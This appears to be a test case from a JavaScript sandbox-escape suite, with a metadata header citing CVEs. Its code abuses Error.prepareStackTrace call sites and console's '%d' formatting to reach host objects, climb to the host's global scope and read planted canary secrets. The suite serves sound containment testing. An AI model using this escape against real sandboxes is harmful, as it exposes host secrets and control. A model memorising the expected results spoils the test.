/*---
id: scope-stack-callsites
title: Error.prepareStackTrace call sites hand out outer frames' receivers and functions
category: scope
goal: Obtain objects of outer frames (the script's receiver, host functions that called back) through structured stack traces, climb to their realm and leak the global and env canaries.
technique: Error.prepareStackTrace receives CallSite objects; getThis()/getFunction() return the receiver and callee of sloppy frames, and a stack captured inside a callback that host code (console formatting) invokes includes the host's frames.
references: CVE-2023-29017, CVE-2022-36067, https://v8.dev/docs/stack-trace-api
expect: * = escaped; *+isolated-vm = contained; *+quickjs = contained
expect-hardened: * = contained; host = escaped; host+vm = escaped
---*/
const objects = [];
Error.prepareStackTrace = (error, sites) => {
  for (const s of sites) for (const o of [s.getThis?.(), s.getFunction?.()]) if (o != null) objects.push(o);
  return 'captured';
};
// Capture from the top level, and from inside valueOf, which console's '%d' formatting calls from its own code.
new Error().stack;
console.log('%d', {
  valueOf() {
    new Error().stack;
    return 0;
  },
});
Error.prepareStackTrace = undefined;
const leaked = {};
for (const o of objects) {
  try {
    const g = o.constructor.constructor('return globalThis')();
    if (g.__hostSecret) leaked.hostSecret = g.__hostSecret;
    if (g.process && g.process.env.WORKBENCH_CANARY) leaked.env = g.process.env.WORKBENCH_CANARY;
  } catch {}
}
console.log(`${objects.length} objects from call sites; leaked:`, JSON.stringify(leaked));
leaked;
